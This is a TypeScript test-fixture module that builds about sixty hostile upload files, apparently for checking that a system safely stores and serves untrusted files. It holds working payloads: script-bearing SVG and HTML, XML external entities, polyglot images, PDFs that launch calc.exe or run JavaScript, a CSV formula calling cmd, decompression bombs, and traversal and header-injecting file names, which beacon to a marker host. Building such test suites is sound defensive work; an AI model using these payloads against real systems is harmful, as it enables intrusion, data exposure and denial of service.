import { deflateRawSync, gzipSync } from 'node:zlib'

/** A file as a stranger sends it. */
export interface HostileFile {
  readonly name: string
  /** What its sender calls it. */
  readonly type: string
  readonly bytes: Uint8Array<ArrayBuffer>
}

/**
 * Sixty files that would do something where they are opened or embedded without care. Each that a browser can run names the place.
 * @param at such as `http://marker.test:8080`
 */
export function hostileFiles(at: string): readonly HostileFile[] {
  let count = 0
  const url = () => `${at}/file-${count++}`
  const fetches = () => `new Image().src='${url()}';fetch('${url()}')`
  const script = () => `<script>${fetches()}</script>`
  const page = () => `<!doctype html><html><body>${script()}<img src="${url()}"></body></html>`
  const svg = (inner: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`
  const pdf = (action: string) =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>`
  const html = 'text/html'
  const files: readonly (readonly [name: string, type: string, text: string | Uint8Array])[] = [
    // Pictures that are documents.
    ['script.svg', 'image/svg+xml', svg(script())],
    ['onload.svg', 'image/svg+xml', svg('', `onload="${fetches()}"`)],
    [
      'foreign.svg',
      'image/svg+xml',
      svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script()}</body></foreignObject>`),
    ],
    ['image.svg', 'image/svg+xml', svg(`<image href="${url()}"/>`)],
    ['use.svg', 'image/svg+xml', svg(`<use xlink:href="${url()}#x"/>`)],
    ['style.svg', 'image/svg+xml', svg(`<style>@import url(${url()});</style>`)],
    [
      'animate.svg',
      'image/svg+xml',
      svg(`<a><animate attributeName="href" values="javascript:${fetches()}"/></a>`),
    ],
    ['sheet.svg', 'image/svg+xml', `<?xml-stylesheet href="${url()}"?>${svg('')}`],
    ['entity.svg', 'image/svg+xml', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url()}">]>${svg('&x;')}`],
    ['packed.svgz', 'image/svg+xml', gzipSync(svg(script()))],
    // Pages.
    ['page.html', html, page()],
    ['page.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${script()}</html>`],
    ['page.shtml', html, `<!--#include virtual="/api/users" -->${page()}`],
    ['refresh.html', html, `<meta http-equiv="refresh" content="0;url=${url()}">`],
    ['base.html', html, `<base href="${at}/"><script src="base.js"></script>`],
    ['frame.html', html, `<iframe src="${url()}"></iframe><object data="${url()}"></object>`],
    ['form.html', html, `<form id="f" action="${url()}"></form><script>f.submit()</script>`],
    ['opener.html', html, `<script>try{parent.document.title='taken'}catch{};${fetches()}</script>`],
    ['utf7.html', html, `+ADw-script+AD4-${fetches()}+ADw-/script+AD4-${page()}`],
    ['utf16.html', `${html}; charset=utf-16le`, Buffer.from(`\ufeff${page()}`, 'utf16le')],
    ['archive.mht', 'multipart/related', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page()}`],
    [
      'feed.xml',
      'text/xml',
      `<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${fetches()}</x:script></x:html>`,
    ],
    ['sheet.xml', 'text/xml', `<?xml-stylesheet type="text/xsl" href="${url()}"?><a/>`],
    ['entity.xml', 'text/xml', `<!DOCTYPE a [<!ENTITY % x SYSTEM "${url()}">%x;]><a/>`],
    ['help.hta', 'application/hta', page()],
    // Code.
    ['code.js', 'text/javascript', fetches()],
    ['module.mjs', 'text/javascript', `import '${url()}';${fetches()}`],
    ['style.css', 'text/css', `@import "${url()}";body{background:url(${url()})}`],
    ['worker.js', 'application/javascript', `importScripts('${url()}')`],
    [
      'manifest.webmanifest',
      'application/manifest+json',
      `{"start_url":"${url()}","icons":[{"src":"${url()}"}]}`,
    ],
    ['data.json', 'application/json', `{"__proto__":{"isAdmin":true},"a":"${script()}"}`],
    ['module.wasm', 'application/wasm', Buffer.from('0061736d01000000', 'hex')],
    // Two things at once.
    ['gif.gif', 'image/gif', `GIF89a=0;${fetches()}`],
    ['gif-page.gif', html, `GIF89a${page()}`],
    ['jpeg-page.jpg', html, Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.from(page())])],
    ['png-page.png', html, Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(page())])],
    ['pdf-page.pdf', html, `${pdf('null')}${page()}`],
    ['zip-page.zip', html, Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.from(page())])],
    ['wave.wav', 'text/javascript', `RIFF=1;${fetches()}//WAVE`],
    ['bitmap.bmp', 'text/javascript', `BM=1;${fetches()}`],
    ['text.txt', 'text/plain', page()],
    ['nothing', '', page()],
    // Documents that do something.
    ['script.pdf', 'application/pdf', pdf(`<</S/JavaScript/JS(app.launchURL('${url()}'))>>`)],
    ['address.pdf', 'application/pdf', pdf(`<</S/URI/URI(${url()})>>`)],
    ['launch.pdf', 'application/pdf', pdf('<</S/Launch/F(calc.exe)>>')],
    ['submit.pdf', 'application/pdf', pdf(`<</S/SubmitForm/F(${url()})>>`)],
    [
      'macro.docm',
      'application/vnd.ms-word.document.macroEnabled.12',
      zipOf('word/vbaProject.bin', 'Auto_Open'),
    ],
    ['macro.docx', 'application/msword', zipOf('word/vbaProject.bin', 'Auto_Open')],
    ['template.docx', 'application/msword', zipOf('word/_rels/settings.xml.rels', `Target="${url()}"`)],
    [
      'object.rtf',
      'text/rtf',
      `{\\rtf1{\\object\\objdata 01}{\\field{\\*\\fldinst INCLUDEPICTURE "${url()}"}}}`,
    ],
    ['formula.csv', 'text/csv', `=HYPERLINK("${url()}"),=cmd|' /C calc'!A0`],
    // What unpacks to very much.
    ['bomb.gz', 'application/gzip', gzipSync(Buffer.alloc(20_000_000))],
    ['bomb.zip', 'application/zip', zipOf('zeros', '\0'.repeat(5_000_000))],
    [
      'laughs.xml',
      'text/xml',
      `<!DOCTYPE a [<!ENTITY a "${'ha'.repeat(9)}"><!ENTITY b "${'&a;'.repeat(9)}">]><a>${'&b;'.repeat(9)}</a>`,
    ],
    // Names.
    ['passport.pdf.exe', 'application/pdf', 'MZ'],
    ['passport\u202efdp.scr', 'application/pdf', page()],
    [`${'a'.repeat(1000)}.html`, html, page()],
    ['CON.html', html, page()],
    ['../../../etc/cron.d/page.html', html, page()],
    ['x.html"; filename="y.txt\r\nContent-Type: text/html', html, page()],
  ]
  return files.map(([name, type, text]) => ({ name, type, bytes: new Uint8Array(Buffer.from(text)) }))
}

/** A ZIP of one file, as far as a program looks that only searches it. */
function zipOf(name: string, text: string): Buffer {
  const packed = deflateRawSync(text)
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(text.length, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name), packed])
}
